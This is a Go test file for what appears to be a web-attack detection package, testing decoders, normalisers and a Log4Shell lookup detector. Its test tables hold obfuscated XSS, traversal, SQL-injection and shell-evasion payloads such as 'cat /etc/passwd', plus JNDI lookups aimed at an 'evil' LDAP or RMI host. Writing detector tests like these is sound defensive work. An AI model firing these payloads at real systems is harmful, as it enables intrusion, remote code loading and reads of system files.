package detect

import "testing"

func TestDecodeAll(t *testing.T) {
	tests := []struct {
		name string
		in   string
		plus bool
		want string
	}{
		{"plain", "hello world", true, "hello world"},
		{"percent", "%3Cscript%3E", false, "<script>"},
		{"plus is space in forms", "a+b", true, "a b"},
		{"plus kept in paths", "a+b", false, "a+b"},
		{"double percent", "%252e%252e%252f", false, "../"},
		{"inner plus is a plus", "%252b", true, "+"},
		{"iis unicode", "%u003cscript%u003e", false, "<script>"},
		{"malformed percent kept", "100%", false, "100%"},
		{"named entity", "&lt;a&gt;", false, "<a>"},
		{"numeric entities", "&#60;&#x3E;&#36", false, "<>$"},
		{"entity case", "$&LBRACE;jndi:", false, "${jndi:"},
		{"unknown entity kept", "&nosuch;", false, "&nosuch;"},
		{"backslash unicode", `\u003cimg\x3e`, false, "<img>"},
		{"backslash braces", `\u{6a}ava`, false, "java"},
		{"entity then percent", "&#37;3C", false, "<"},
		{"full width", "\uff1cscript\uff1e", false, "<script>"},
		{"enclosed letters", "ⓁⓄⒸⒶⓁⒽⓄⓈⓉ", false, "localhost"},
		{"circled digits and ideographic stop", "①⑥⑨。②⑤④", false, "169.254"},
		{"seven-bit truncation", "%bcscript%be", false, "<script>"},
		{"stray byte kept", "%ff", false, "\u00ff"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := decodeAll(tt.in, tt.plus); got != tt.want {
				t.Errorf("decodeAll(%q, %v) = %q, want %q", tt.in, tt.plus, got, tt.want)
			}
		})
	}
}

func TestViews(t *testing.T) {
	tests := []struct {
		in            string
		low, sql, cmd string
	}{
		{"SELECT  *\tFROM t", "select * from t", "select * from t", "select * from t"},
		{"UN/**/ION SEL/*x*/ECT", "un/**/ion sel/*x*/ect", "un ion sel ect", "un/**/ion sel/*x*/ect"},
		{"/*!50000union*/ select", "/*!50000union*/ select", " union  select", "/*!50000union*/ select"},
		{`c'a't /e"t"c/pa\sswd`, `c'a't /e"t"c/pa\sswd`, `c'a't /e"t"c/pa\sswd`, "cat /etc/passwd"},
		{"cat${IFS}/etc/passwd", "cat${ifs}/etc/passwd", "cat${ifs}/etc/passwd", "cat /etc/passwd"},
		{"w$@ho$()am``i", "w$@ho$()am``i", "w$@ho$()am``i", "whoami"},
		{"c^a^t", "c^a^t", "c^a^t", "cat"},
		{"${jndi:ldap://x}", "${jndi:ldap://x}", "${jndi:ldap://x}", "${jndi:ldap://x}"},
	}
	for _, tt := range tests {
		var f forms
		f.build(tt.in, false)
		if f.lowered() != tt.low || f.sqlText() != tt.sql || f.cmdText() != tt.cmd {
			t.Errorf("build(%q):\n low %q want %q\n sql %q want %q\n cmd %q want %q", tt.in, f.low, tt.low, f.sql, tt.sql, f.cmd, tt.cmd)
		}
	}
}

func TestResolveLookups(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"${jndi:ldap://evil/a}", true},
		{"${${lower:j}ndi:ldap://evil/a}", true},
		{"${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}", true},
		{"${${env:nope:-j}ndi:dns://evil/a}", true},
		{"${${upper:J}${upper:N}di:ldap://x}", true},
		{"price: ${amount}", false},
		{"${user.name} logged in", false},
	}
	for _, tt := range tests {
		var f forms
		f.build(tt.in, false)
		if got := log4jLookup(&f); got != tt.want {
			t.Errorf("log4jLookup(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

func TestJSONString(t *testing.T) {
	tests := []struct {
		in   string
		want string
		n    int
		ok   bool
	}{
		{`"abc" rest`, "abc", 5, true},
		{`"a\"b"`, `a"b`, 6, true},
		{`"\u003cx\u003e"`, "<x>", 15, true},
		{`"tab\tnl\n"`, "tab\tnl\n", 11, true},
		{`"unterminated`, "", 0, false},
		{`"bad \u12"`, `bad \u12`, 10, true},
	}
	for _, tt := range tests {
		got, n, ok := jsonString(tt.in)
		if got != tt.want || n != tt.n || ok != tt.ok {
			t.Errorf("jsonString(%q) = %q, %d, %v; want %q, %d, %v", tt.in, got, n, ok, tt.want, tt.n, tt.ok)
		}
	}
}
